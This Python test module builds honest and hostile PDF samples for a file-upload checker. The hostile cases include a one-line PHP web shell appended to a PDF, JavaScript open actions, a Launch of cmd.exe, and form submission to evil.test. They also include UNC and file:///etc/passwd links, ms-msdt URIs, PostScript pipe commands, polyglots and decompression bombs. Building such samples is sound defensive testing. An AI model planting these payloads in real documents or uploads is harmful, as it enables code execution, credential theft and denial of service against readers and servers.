"""PDF files, honest and otherwise."""

import io
import re
import struct
import zipfile
from collections.abc import Callable
from functools import cache, partial
from typing import Any, cast

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from reportlab.lib.colors import white
from reportlab.lib.pagesizes import A4
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfgen.canvas import Canvas

from tests.hostile.archives import zipped
from tests.hostile.case import Case
from tests.hostile.images import picture


@cache
def pdf(pages: int = 2) -> bytes:
    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    target = io.BytesIO()
    canvas = Canvas(target, A4)
    for number in range(1, pages + 1):
        canvas.bookmarkPage(f"p{number}")
        canvas.addOutlineEntry(f"第{number}页", f"p{number}")
        canvas.setFont("STSong-Light", 14)
        for line in range(30):
            canvas.drawString(
                72, 780 - 22 * line, f"第{number}页 第{line + 1}行：两点之间线段最短。"
            )
        canvas.linkURL("https://www.moe.gov.cn/", (72, 72, 200, 90))
        canvas.circle(300, 120, 40, fill=number % 2)
        canvas.showPage()
    canvas.save()
    return target.getvalue()


def worksheet() -> bytes:
    """A page with a field that is filled in."""
    target = io.BytesIO()
    canvas = Canvas(target, A4)
    canvas.acroForm.textfield(
        name="answer", value="X" * 20, x=100, y=600, width=300, height=40, fontSize=24,
        fillColor=white, borderWidth=0,
    )  # fmt: skip
    canvas.showPage()
    canvas.save()
    return target.getvalue()


def changed(change: Callable[[pikepdf.Pdf], None], pages: int = 2, **options: Any) -> bytes:
    with pikepdf.open(io.BytesIO(pdf(pages))) as document:
        change(document)
        target = io.BytesIO()
        document.save(target, **options)
    return target.getvalue()


def _action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


def _on_open(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = action

    return change


def _on_page(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].obj.AA = Dictionary(O=action)

    return change


def _annotated(**entries: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        annotation = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)
        document.pages[0].obj.Annots = Array([document.make_indirect(annotation)])

    return change


def _attach(document: pikepdf.Pdf) -> None:
    document.attachments["evil.exe"] = b"MZ" + b"\x90" * 99


def _named_script(document: pikepdf.Pdf) -> None:
    names = Array([String("x"), _action("JavaScript", JS=String("app.alert(1)"))])
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=names))


def _script_in_stream(document: pikepdf.Pdf) -> None:
    script = document.make_stream(b"app.launchURL('http://evil.test')")
    document.Root.OpenAction = _action("JavaScript", JS=script)


def _xfa(document: pikepdf.Pdf) -> None:
    form = document.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    document.Root.AcroForm = Dictionary(XFA=form, Fields=Array([]))


def _unreached(document: pikepdf.Pdf) -> None:
    """In a thumbnail's dictionary, where nobody looks."""
    document.pages[1].obj.PieceInfo = Dictionary(
        X=Dictionary(Private=Array([Array([_action("JavaScript", JS=String("1"))])]))
    )


def _indirect(document: pikepdf.Pdf) -> None:
    """Numbers and texts as objects of their own, as many programs write them."""
    small: tuple[Any, ...] = (5, String("a"), True)
    made = [document.make_indirect(each) for each in small]
    document.Root.PieceInfo = Array(made)


def _nested(document: pikepdf.Pdf) -> None:
    inner: Any = Array([])
    for _ in range(200):
        inner = Array([inner])
    document.Root.Nested = inner


def _pageless() -> bytes:
    document = pikepdf.new()
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def _many_pages() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    page = document.pages[0].obj
    document.Root.Pages.Kids = Array(
        [document.make_indirect(Dictionary(cast(Any, page))) for _ in range(5001)]
    )
    document.Root.Pages.Count = 5001
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def _painting(
    depth: int, times: int, drawing: bytes = b"0 0 9 9 re f"
) -> Callable[[pikepdf.Pdf], None]:
    """A form that paints another `times` times, which does the same, and so on."""

    def change(document: pikepdf.Pdf) -> None:
        form = document.make_stream(drawing, Type=Name.XObject, Subtype=Name.Form)
        form.BBox = Array([0, 0, 99, 99])
        for _ in range(depth):
            form = document.make_stream(
                b"/F Do " * times,
                Type=Name.XObject,
                Subtype=Name.Form,
                BBox=Array([0, 0, 99, 99]),
                Resources=Dictionary(XObject=Dictionary(F=form)),
            )
        page = document.pages[0].obj
        page.Resources = Dictionary(XObject=Dictionary(F=form))
        page.Contents = document.make_stream(b"/F Do")

    return change


def _long_page(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.Contents = document.make_stream(b"0 0 9 9 re f " * 5_200_000)


def _endless(document: pikepdf.Pdf) -> None:
    _painting(1, 1)(document)
    form = document.pages[0].obj.Resources.XObject.F
    form.Resources.XObject.F = form


def _outside(**entries: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.Outside = document.make_stream(b"", **entries)

    return change


def _based(document: pikepdf.Pdf) -> None:
    document.Root.URI = Dictionary(Base=String("javascript:"))


def _zip64() -> bytes:
    """An archive whose end record points to a ZIP64 record, and whose comment ends a PDF."""
    whole = zipped({"evil.js": b"x"})
    at = whole.index(b"PK\5\6")
    directory = whole.index(b"PK\1\2")
    record = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, 1, 1, at - directory, directory)
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, at, 1)
    comment = b"startxref\n0\n%%EOF\n"
    end = struct.pack(
        "<4s4H2LH", b"PK\5\6", 0, 0, 65535, 65535, 0xFFFFFFFF, 0xFFFFFFFF, len(comment)
    )
    return whole[:at] + record + locator + end + comment


_SCRIPT = _action("JavaScript", JS=String("app.alert(1)"))
_STREAMS: dict[str, Any] = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
_LOCKED: dict[str, Any] = {"encryption": pikepdf.Encryption(owner="o", user="u")}
_RESTRICTED: dict[str, Any] = {"encryption": pikepdf.Encryption(owner="o", user="")}


def script_on_open() -> bytes:
    return changed(_on_open(_SCRIPT))


def _updated() -> bytes:
    """An incremental update (§7.5.6) that gives the document another title."""
    whole = pdf()
    at = int(whole[whole.rindex(b"startxref") :].split()[1])
    root = re.search(rb"/Root (\d+ 0 R)", whole)
    number = whole[at:].split()[2]
    added = number + b" 0 obj\n<< /Title (2) >>\nendobj\n"
    table = b"xref\n%s 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %s /Prev %d >>\n" % (
        number, len(whole), int(number) + 1, root[1] if root else b"", at
    )  # fmt: skip
    return whole + added + table + b"startxref\n%d\n%%%%EOF\n" % (len(whole) + len(added))


def _quoting(document: pikepdf.Pdf) -> None:
    words = b"BT /F1 9 Tf (a file begins with %PDF-1.4 and ends with %%EOF) Tj ET"
    document.pages[0].contents_add(document.make_stream(words))


HONEST = [
    Case("a PDF", "讲义.pdf", pdf, declared="application/pdf"),
    Case("a PDF of a page", "a.pdf", lambda: pdf(1)),
    Case("a PDF with a line before it", "a.pdf", lambda: b"\r\n" + pdf()),
    Case("a PDF that is filled in", "作业.pdf", worksheet),
    Case("a PDF in object streams", "a.pdf", lambda: changed(lambda _: None, **_STREAMS)),
    Case("a PDF for the web", "a.pdf", lambda: changed(lambda _: None, linearize=True)),
    Case("a PDF that opens on a page", "a.pdf", lambda: changed(lambda d: setattr(d.Root, "OpenAction", Array([d.pages[1].obj, Name.Fit])))),
    Case("a PDF of small objects", "a.pdf", lambda: changed(_indirect)),
    Case("a PDF that may not be changed", "a.pdf", lambda: changed(lambda _: None, **_RESTRICTED)),
    Case("a PDF with a link to a letter", "a.pdf", lambda: changed(_annotated(Subtype=Name.Link, A=_action("URI", URI=String("mailto:a@school.test"))))),
    Case("a PDF with a link without a scheme", "a.pdf", lambda: changed(_annotated(Subtype=Name.Link, A=_action("URI", URI=String("www.moe.gov.cn"))))),
    Case("a PDF of forms in forms", "a.pdf", lambda: changed(_painting(4, 6))),
    Case("a PDF that ends in line breaks", "a.pdf", lambda: pdf() + b"\r\n\r\n"),
    Case("a PDF that ends in NULs and a word", "a.pdf", lambda: pdf() + b"\0\0\0 eof"),
    Case("a PDF that was updated", "a.pdf", lambda: _updated()),
    Case("a PDF about PDF", "a.pdf", lambda: changed(_quoting, compress_streams=False, linearize=True)),
    Case("a PDF stored in a ZIP", "a.zip", lambda: zipped({"a.pdf": pdf()}, zipfile.ZIP_STORED)),
    Case("a PDF stored behind a text in a ZIP", "a.zip", lambda: zipped({"a.txt": b"a", "a.pdf": pdf()}, zipfile.ZIP_STORED)),
]  # fmt: skip

_BEHIND: tuple[tuple[str, bytes], ...] = (
    ("a page", b"\n<html onload=alert(1)>"),
    ("a picture that fails", b"<img src=x onerror=alert(1)>"),
    ("PHP", b"\n<?php system($_GET['c']);?>"),
    ("short PHP", b"<?=`id`?>"),
    ("another PDF", pdf()),
    ("a PDF behind a word", b" x" + pdf()),
    ("a PDF that fits", b"\n%PDF-1.7\n" + pdf()[pdf().rindex(b"xref\n0") :]),
)

_ADDRESSES = (
    "ms-msdt:/id PCWDiagnostic", "search-ms:query=a", "smb://evil.test/a", "java\tscript:alert(1)",
    "\\\\evil.test\\share", "//evil.test/share", " FILE:///c:/a.exe",
)  # fmt: skip


def _link(address: str) -> bytes:
    action = _action("URI", URI=String(address))
    return changed(_annotated(Subtype=Name.Link, A=action))


def _behind(tail: bytes) -> bytes:
    return pdf() + tail


HOSTILE = [
    *(Case(f"a link to {address!r}", "a.pdf", partial(_link, address), "action") for address in _ADDRESSES),
    *(Case(f"a PDF with {what} behind its end", "a.pdf", partial(_behind, tail), "polyglot") for what, tail in _BEHIND),
    Case("a name in a ZIP that begins a PDF", "a.zip", lambda: zipped({"%PDF-1.7": b"1 0 obj"}, zipfile.ZIP_STORED), "polyglot"),
    Case("a script in a PDF stored in a ZIP", "a.zip", lambda: zipped({"a.pdf": script_on_open()}, zipfile.ZIP_STORED), "script"),
    Case("links relative to a script", "a.pdf", lambda: changed(_based), "action"),
    Case("a thread of another file", "a.pdf", lambda: changed(_on_open(_action("Thread", F=String("\\\\evil.test\\a.pdf")))), "external-reference"),
    Case("a stream in another file", "a.pdf", lambda: changed(_outside(F=String("\\\\evil.test\\a"))), "external-reference"),
    Case("a page of another file", "a.pdf", lambda: changed(_outside(Subtype=Name.Form, Ref=Dictionary(F=String("a.pdf"), Page=0))), "external-reference"),
    Case("forms that paint forms a thousand million times", "a.pdf", lambda: changed(_painting(9, 10)), "too-costly"),
    Case("a long form that is painted ten thousand times", "a.pdf", lambda: changed(_painting(4, 10, b"0 0 9 9 re f " * 20_000)), "too-costly"),
    Case("a page that unpacks to 65 MB", "a.pdf", lambda: changed(_long_page), "bomb"),
    Case("a form that paints itself", "a.pdf", lambda: changed(_endless), "too-costly"),
    Case("a script in a PDF that a Mac left", "a.zip", lambda: zipped({"a.txt": b"a", "__MACOSX/讲义.pdf": script_on_open()}), "script"),
    Case("a PDF with a ZIP64 behind", "a.pdf", lambda: pdf() + _zip64(), "polyglot"),
    Case("a PDF with a ZIP and its own end behind", "a.pdf", lambda: pdf() + zipped({"evil.js": b"x"}) + b"\nstartxref\n0\n%%EOF\n", "polyglot"),
    Case("a PDF with a program between two ends", "a.pdf", lambda: pdf() + b"MZ" + b"\x90" * 500 + b"%%EOF\n", "hidden-data"),
    Case("a script when a PDF opens", "a.pdf", lambda: changed(_on_open(_SCRIPT)), "script"),
    Case("a script in an object stream", "a.pdf", lambda: changed(_on_open(_SCRIPT), **_STREAMS), "script"),
    Case("a script that is a stream", "a.pdf", lambda: changed(_script_in_stream), "script"),
    Case("a script by name", "a.pdf", lambda: changed(_named_script), "script"),
    Case("a script spelled otherwise", "a.pdf", lambda: _respelled(), "script"),
    Case("a script when a page opens", "a.pdf", lambda: changed(_on_page(_SCRIPT)), "script"),
    Case("a script where nobody looks", "a.pdf", lambda: changed(_unreached), "script"),
    Case("a script behind a page turn", "a.pdf", lambda: changed(_on_open(_action("GoTo", D=Array([]), Next=_SCRIPT))), "script"),
    Case("a program when a PDF opens", "a.pdf", lambda: changed(_on_open(_action("Launch", F=String("cmd.exe")))), "action"),
    Case("a form that sends itself", "a.pdf", lambda: changed(_on_open(_action("SubmitForm", F=String("http://evil.test")))), "action"),
    Case("data that is imported", "a.pdf", lambda: changed(_on_open(_action("ImportData", F=String("a.fdf")))), "action"),
    Case("a jump to another file", "a.pdf", lambda: changed(_on_open(_action("GoToR", F=String("\\\\evil.test\\a.pdf")))), "external-reference"),
    Case("a jump to an attachment", "a.pdf", lambda: changed(_on_open(_action("GoToE", T=Dictionary()))), "embedded-file"),
    Case("a link to a script", "a.pdf", lambda: changed(_annotated(Subtype=Name.Link, A=_action("URI", URI=String("javascript:alert(1)")))), "action"),
    Case("a link to a file", "a.pdf", lambda: changed(_annotated(Subtype=Name.Link, A=_action("URI", URI=String("file:///etc/passwd")))), "action"),
    Case("a film in a PDF", "a.pdf", lambda: changed(_annotated(Subtype=Name.RichMedia)), "embedded-object"),
    Case("a screen in a PDF", "a.pdf", lambda: changed(_annotated(Subtype=Name.Screen)), "embedded-object"),
    Case("a body in a PDF", "a.pdf", lambda: changed(_annotated(Subtype=Name("/3D"))), "embedded-object"),
    Case("an attachment to a page", "a.pdf", lambda: changed(_annotated(Subtype=Name.FileAttachment)), "embedded-file"),
    Case("an attachment to a PDF", "a.pdf", lambda: changed(_attach), "embedded-file"),
    Case("an XFA form", "a.pdf", lambda: changed(_xfa), "active-form"),
    Case("an encrypted PDF", "a.pdf", lambda: changed(lambda _: None, **_LOCKED), "encrypted"),
    Case("a script in a restricted PDF", "a.pdf", lambda: changed(_on_open(_SCRIPT), **_RESTRICTED), "script"),
    Case("arrays of two hundred levels", "a.pdf", lambda: changed(_nested), "too-costly"),
    Case("a PDF of no page", "a.pdf", _pageless, "empty"),
    Case("a PDF of 5001 pages", "a.pdf", _many_pages, "too-many"),
    Case("a PDF cut in half", "a.pdf", lambda: pdf()[: len(pdf()) // 2], "damaged"),
    Case("a PDF without its end", "a.pdf", lambda: pdf()[:-8], "damaged"),
    Case("a PDF whose table points elsewhere", "a.pdf", lambda: pdf().replace(b"startxref\n", b"startxref\n1"), "damaged"),
    Case("a PDF of a header", "a.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "damaged"),
    Case("a PDF with a ZIP behind", "a.pdf", lambda: pdf() + zipped({"evil.js": b"x"}), "polyglot"),
    Case("a PDF with a program behind", "a.pdf", lambda: pdf() + b"MZ" + b"\x90" * 500, "hidden-data"),
    Case("a PDF behind a page", "a.pdf", lambda: b"<html><script>1</script>\n" + pdf(), "type-not-accepted"),
    Case("a PDF behind some text", "a.pdf", lambda: b"some text\n" + pdf(), "polyglot"),
    Case("a PDF named picture", "a.png", pdf, "name-mismatch"),
    Case("a PDF declared picture", "a.pdf", pdf, "type-mismatch", "image/png"),
    Case("a program named PDF", "a.pdf", lambda: b"MZ\x90\0" + b"\0" * 200, "type-not-accepted"),
    Case("a page named PDF", "a.pdf", lambda: b"<!DOCTYPE html><script>1</script>", "type-not-accepted"),
    Case("a picture named PDF", "a.pdf", lambda: picture("PNG"), "name-mismatch"),
    Case("PostScript named PDF", "a.pdf", lambda: b"%!PS-Adobe-3.0\n(%pipe%id) (w) file", "type-not-accepted"),
]  # fmt: skip


def _respelled() -> bytes:
    """Offsets in the table stay right: the names grow where spaces shrink."""
    plain = changed(_on_open(_SCRIPT), linearize=False, compress_streams=False)
    for name, spelled in ((b"/S /JavaScript", b"/S/J#61vaScript"), (b"/JS (", b"/J#53(")):
        missing = len(spelled) - len(name)
        at = plain.index(name)
        rest = plain[at + len(name) :]
        gap = rest.index(b" " * missing) if missing > 0 else 0
        plain = plain[:at] + spelled + rest[:gap] + rest[gap + max(missing, 0) :]
    return plain
